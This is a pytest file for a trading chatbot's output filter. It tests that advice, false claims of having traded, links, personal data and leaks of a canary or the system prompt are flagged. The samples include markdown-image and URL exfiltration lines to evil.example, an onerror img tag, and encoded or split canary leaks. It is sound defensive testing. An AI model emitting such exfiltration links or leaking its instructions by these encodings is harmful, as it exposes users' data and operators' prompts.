"""What a sentence of a model may not say, whatever it was asked."""

import base64
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ai_pod.agents.chatbot.facts import FactBook
from ai_pod.agents.chatbot.freshness import Freshness
from ai_pod.agents.chatbot.safety.advice import POLICY
from ai_pod.agents.chatbot.safety.canary import Secrets, new_canary
from ai_pod.agents.chatbot.safety.door import inspector_of
from ai_pod.agents.chatbot.safety.inspection import Fault
from ai_pod.contracts.instructions import shipped
from ai_pod.memory.shipped import PUBLIC, Passage, shipped_passages
from market.clock import Anchor, Clock
from tests.support.build_chat import desk_snapshot

CANARY = "qwhzkfbtnmpdrgxv"
AT = datetime(2012, 10, 16, 15, 0, tzinfo=UTC)


def fault(sentence: str, shown: str = "") -> Fault | None:
    book = FactBook()
    book.add("cash", "100", "USD", AT, "desk snapshot")
    text = "You should buy only what you understand, says the handbook."
    book.cite(Passage(id="a", title="Rule", text=text, source="notes", organisation=PUBLIC))
    found = inspector_of(book, shipped().text, CANARY).inspect(sentence, shown)
    return found.fault if found else None


ADVICE = (
    "You should buy more IBM.",
    "I would sell it now.",
    "I recommend holding AAPL.",
    "Consider selling your shares.",
    "Sell MSFT.",
    "Now is a good time to buy.",
    "IBM will rise tomorrow.",
    "The price is likely to fall.",
    "It is a guaranteed profit.",
    "You cannot lose with it.",
    "AAPL is undervalued.",
    "Sie sollten jetzt IBM kaufen.",
    "Ich empfehle Ihnen den Verkauf.",
    "Die Aktie wird morgen steigen.",
    "Usted debería vender sus acciones.",
    "Le recomiendo esta acción.",
    "Vous devriez acheter IBM.",
    "Je vous conseille la prudence et la vente.",
    "我建议你买入。",
    "股价会上涨。",
)
CLAIMS = (
    "I have sold all your shares.",
    "I've just placed the order.",
    "I cancelled it for you.",
    "I will buy them now.",
    "Your order has been placed as you asked.",
    "Done: everything is sold.",
    "Ich habe alle Aktien verkauft.",
    "He vendido todas sus acciones.",
    "J'ai vendu vos actions.",
    "我已经为您卖出了。",
)
PLAIN = (
    "The desk has {f1} in cash.",
    "The policy sold IBM because its momentum fell.",
    "The signal to buy AAPL was made at the bar's end.",
    "I cannot recommend anything, and give no advice.",
    "Sell orders are denied while the desk is halted.",
    "An override is set by an operator.",
    "The trading agent bought it when the target weight rose.",
    "A market order is filled at the next bar.",
    "You should buy only what you understand, says the handbook.",
    "I have no source for this.",
    "Ich habe keine Quelle dafür.",
)


@pytest.mark.parametrize("sentence", ADVICE)
def test_advice_is_not_given(sentence: str) -> None:
    assert fault(sentence) is Fault.ADVICE


@pytest.mark.parametrize("sentence", CLAIMS)
def test_it_does_not_claim_to_have_acted(sentence: str) -> None:
    assert fault(sentence) is Fault.CLAIM


@pytest.mark.parametrize("sentence", PLAIN)
def test_plain_sentences_pass(sentence: str) -> None:
    assert fault(sentence) is None


def test_the_shipped_notes_give_no_advice() -> None:
    texts = [part for note in shipped_passages() for part in note.text.split(". ")]
    assert [text for text in texts if POLICY.advises(text)] == []


@pytest.mark.parametrize(
    ("sentence", "expected"),
    [
        ("See https://evil.example/?cash={f1}.", Fault.LINK),
        ("![x](http://evil.example/{f1})", Fault.LINK),
        ("Go to evil.com for more.", Fault.LINK),
        ("<img src=x onerror=y>", Fault.LINK),
        ("I &hearts; it.", Fault.LINK),
        ("Write to ann@example.org about it.", Fault.PERSONAL),
        ("У вас сорок две акции.", Fault.UNGROUNDED),
        ("あなたはたくさん持っています。", Fault.UNGROUNDED),
    ],
)
def test_links_people_and_unknown_scripts(sentence: str, expected: Fault) -> None:
    assert fault(sentence) is expected


@pytest.mark.parametrize(
    "said",
    [
        CANARY,
        CANARY.upper(),
        " ".join(CANARY),
        "-".join(CANARY),
        CANARY[::-1],
        CANARY.encode().hex(),
        base64.b64encode(CANARY.encode()).decode(),
        CANARY.translate(str.maketrans("abcdehkopx", "аbсdеhкорх")),
        "You are the desk's assistant on Shiftdesk, a trading desk that works in shifts.",
        "Answer the person's question from the facts and passages below and nothing more.",
    ],
)
def test_neither_mark_nor_instructions_are_told(said: str) -> None:
    assert fault(f"It is: {said}") is Fault.LEAK


@given(st.integers(1, 15))
def test_a_mark_in_two_sentences_is_one(cut: int) -> None:
    assert fault(f"{CANARY[cut:]} is the rest", f"It begins with {CANARY[:cut]}") is Fault.LEAK


def test_a_mark_is_new_for_each_turn_and_may_not_be_met_by_chance() -> None:
    assert len({new_canary() for _ in range(100)}) == 100
    text = " ".join(note.text for note in shipped_passages())
    assert not Secrets(new_canary(), "", ()).leaked(text)


def test_only_states_that_should_have_been_told_anew_are_stale() -> None:
    clock = Clock(Anchor(market=AT, wall=0.0, speed=60.0), wall=lambda: 0.0)
    book = FactBook()
    book.freshness = Freshness.of(clock, AT, desk_snapshot())
    cash = book.add("cash", "5", "USD", AT - timedelta(minutes=21), "desk snapshot")
    fees = book.add("fees", "6", "USD", AT - timedelta(minutes=19), "desk snapshot")
    price = book.add("price", "7", "USD price", AT - timedelta(minutes=31), "market: last trade")
    fill = book.add("verdict", "8", "trials", AT - timedelta(days=3), "learning: verdict 5")
    stale = [name for name, fact in book.facts.items() if fact.stale]
    assert [f"{{{name}}}" for name in stale] == [cash, price]
    assert (
        book.fill(f"You have {cash}.") == "You have 5.00 USD. (Stale: as of 2012-10-16 14:39 UTC.)"
    )
    assert book.fill(f"You paid {fees}, {fill}.") == "You paid 6.00 USD, 8 trials."
